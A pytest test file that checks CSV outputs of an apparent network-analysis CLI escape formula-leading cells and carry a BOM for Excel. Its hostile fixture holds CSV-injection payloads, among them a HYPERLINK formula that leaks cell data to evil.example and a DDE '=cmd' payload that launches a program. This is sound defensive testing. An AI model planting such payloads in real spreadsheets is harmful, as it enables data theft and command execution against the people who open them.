"""`kizuna analyze` outputs open safely in Excel: UTF-8 with BOM, no cell begins like a formula."""

from __future__ import annotations

import csv
import io

import pytest

from kizuna.cli import main
from kizuna.graph.cells import FORMULA_CHARS, unescape_csv_cell

#: Organization ids, names and clusters a hostile bundle may carry.
ORGS = [
    ("-a", '=HYPERLINK("http://evil.example/?d="&A1,"x")', "=X"),
    ("@b", "=cmd|' /C calc'!A0", "=X"),
    ("+c", "@SUM(1)", "+Y"),
    ("d", "-2+3\r=1+1", "+Y"),  # a lone CR: quoted, so no row starts inside the cell
    ("e", "\t=1+1", "-Z"),
    ("f", "''=quoted", "-Z"),  # a bundle reader reads this as '=quoted (docs/bundle-format.md)
]
TIES = [("-a", "@b"), ("@b", "+c"), ("+c", "d"), ("d", "e"), ("e", "f"), ("-a", "+c")]


def hostile_bundle(folder):
    folder.mkdir()
    with open(folder / "nodes.csv", "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "name", "kind", "cluster"])
        writer.writerows([(i, n, "company", c) for i, n, c in ORGS])
    with open(folder / "ties.csv", "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["source", "target", "kind"])
        writer.writerows([(s, t, "joint_rd") for s, t in TIES])
    return folder


def read_people_csv(path):
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), path.name  # Excel in Japan needs the BOM
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def ids_of(rows):
    return [r[rows[0].index("id")] for r in rows[1:]]


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("writer", ["pandas", "arrow"])
def test_analyze_outputs_are_safe_and_exact(tmp_path, monkeypatch, writer):
    import kizuna.analytics.output as output

    if writer == "arrow":
        monkeypatch.setattr(output, "ARROW_MIN_CELLS", 0)
    out = tmp_path / "out"
    main(["analyze", "--input", str(hostile_bundle(tmp_path / "b")), "--out", str(out)])
    for name in ("nodes.csv", "cluster_pairs.csv", "bridges.csv", "local_bridges.csv"):
        rows = read_people_csv(out / name)
        for row in rows:
            for cell in row:
                assert not cell or is_number(cell) or cell[0] not in FORMULA_CHARS, (name, cell)
    nodes = read_people_csv(out / "nodes.csv")
    header = nodes[0]
    got = {
        unescape_csv_cell(r[header.index("id")]): unescape_csv_cell(r[header.index("name")])
        for r in nodes[1:]
    }
    assert got == {i: n for i, n, _ in ORGS} | {"f": "'=quoted"}
    assert nodes[1 + ids_of(nodes).index("f")][header.index("name")] == "''=quoted"
    ids = [r[header.index("id")] for r in nodes[1:]]
    assert "'-a" in ids and "'@b" in ids and "d" in ids
    pairs = read_people_csv(out / "cluster_pairs.csv")
    clusters = {unescape_csv_cell(c) for r in pairs[1:] for c in r[:2]}
    assert clusters <= {"=X", "+Y", "-Z"} and "=X" in clusters
